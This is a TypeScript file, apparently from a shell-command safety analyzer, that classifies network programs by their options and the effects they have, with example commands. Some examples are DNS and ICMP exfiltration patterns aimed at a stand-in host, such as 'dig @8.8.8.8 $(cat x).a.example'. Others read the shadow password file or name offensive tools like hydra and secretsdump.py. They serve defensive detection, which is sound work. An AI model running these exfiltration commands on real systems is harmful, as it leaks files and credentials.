import type { Program } from '../program/spec.ts';

/** Programs that look at the network. */
export const NETWORK: readonly Program[] = [
  {
    names: 'ping ping6 traceroute tracepath mtr arping fping',
    options: {
      '-c': 'text',
      '-i': 'text',
      '-W': 'text',
      '-w': 'text',
      '-s': 'text',
      '-t': 'text',
      '-p': 'text',
      '-I': 'text',
      '-m': 'text',
    },
    operands: 'host',
    stdout: 'own',
    examples: {
      'ping -c 1 a.example': 'net a.example',
      'ping -p $(xxd -p x) a.example': 'flow x>net:a.example; net a.example; read x; run ping',
    },
  },
  {
    names: 'dig drill kdig doggo delv',
    options: {
      '-x': 'text',
      '-p': 'text',
      '-f': 'read',
      '-t': 'text',
      '-q': 'host',
      '-b': 'text',
      '-c': 'text',
      '-k': 'read',
    },
    operands: 'host text...',
    when: { '@@*': { operands: 'host...' } },
    stdout: 'own',
    examples: {
      'dig a.example': 'net a.example',
      'dig @8.8.8.8 $(cat x).a.example':
        'flow x>net:$(file).a.example; flow x>net:8.8.8.8; net $(file).a.example; net 8.8.8.8; opaque host; read x; run dig',
    },
  },
  {
    names: 'host nslookup whois resolvectl getent',
    options: { '-t': 'text', '-W': 'text', '-h': 'text', '-p': 'text' },
    operands: 'host text...',
    stdout: 'own',
    examples: {
      'host "$(head -c 9 x).a.example"':
        'flow x>net:$(head).a.example; net $(head).a.example; opaque host; read x; run host',
      'nslookup a.example': 'net a.example',
    },
  },
  {
    names: 'getent',
    operands: 'text...',
    stdout: 'own',
    actions: { 'read-login': '@shadow @gshadow' },
    examples: { 'getent passwd me': 'nothing', 'getent shadow': 'action read-login' },
  },
  {
    names:
      'nmap masscan zmap rustscan naabu nikto gobuster ffuf dirb wfuzz sqlmap hydra medusa patator hashcat john aircrack-ng nuclei nxc crackmapexec theHarvester amass subfinder bbot',
    options: {
      '-iL': 'read',
      '-oN -oX -oG -oA -o --output': 'write',
      '-p --port': 'text',
      '--script': 'library',
      '-L -P -w -W': 'read',
      '-l -u': 'text',
      '-r --rules-file': 'read',
      '-x': 'text',
    },
    operands: 'text...',
    actions: 'scan',
    stdout: 'own',
    examples: {
      'nmap -sV a.example': 'action scan',
      'nmap -iL x': 'action scan; read x',
      'hashcat -a 0 h w': 'action scan',
    },
  },
  {
    names: 'tcpdump tshark dumpcap wireshark ngrep ettercap bettercap',
    options: {
      '-w': 'write',
      '-r': 'read',
      '-i': 'text',
      '-z': 'program',
      '-F': 'read',
      '-c': 'text',
      '-s': 'text',
      '-Z': 'text',
      '-G': 'text',
      '-W': 'text',
      '-C': 'text',
    },
    operands: 'text...',
    actions: { capture: '!-r' },
    stdout: 'own',
    examples: {
      'tcpdump -i eth0 -w o': 'action capture; write o',
      'tcpdump -r o': 'read o',
      'tcpdump -z ./x -w o': 'action capture; execute x; run x; write o',
    },
  },
  {
    names: 'ip ifconfig route nmcli bridge tc',
    operands: 'text...',
    stdout: 'own',
    stdin: 'none',
    actions: {
      network:
        '@set @add @del @delete @flush @replace @change @append @modify @up @down @on @off @connect @disconnect',
    },
    examples: {
      'ip addr': 'nothing',
      'ip -br link show': 'nothing',
      'ip route get 1.1.1.1': 'nothing',
      'ip link set eth0 down': 'action network',
      'nmcli radio wifi off': 'action network',
    },
  },
  {
    names: 'networksetup',
    style: 'plain',
    operands: 'text...',
    stdout: 'own',
    actions: { network: '@-set* @-remove* @-create* @-add*' },
    examples: {
      'networksetup -setdnsservers Wi-Fi 1.1.1.1': 'action network',
      'networksetup -listallhardwareports': 'nothing',
    },
  },
  {
    names:
      'ss netstat arp iw iwconfig ethtool lsof fuser sockstat scutil ipconfig hostnamectl timedatectl mii-tool',
    operands: 'text...',
    stdout: 'own',
    stdin: 'none',
    examples: { 'ss -tlnp': 'nothing', 'lsof -i :80': 'nothing' },
  },
  {
    names:
      'snmpget snmpwalk ldapsearch ldapadd ldapmodify ldapdelete rpcclient winrm evil-winrm psexec.py wmiexec.py secretsdump.py',
    options: {
      '-H': 'url',
      '-h': 'host',
      '-f': 'read',
      '-D': 'text',
      '-w': 'text',
      '-b': 'text',
      '-y': 'read',
      '-s': 'text',
    },
    operands: 'text...',
    actions: { 'change-remote': 'always' },
    stdout: 'own',
    examples: { 'ldapadd -H ldap://a.example -f x': 'action change-remote; net a.example; read x' },
  },
];
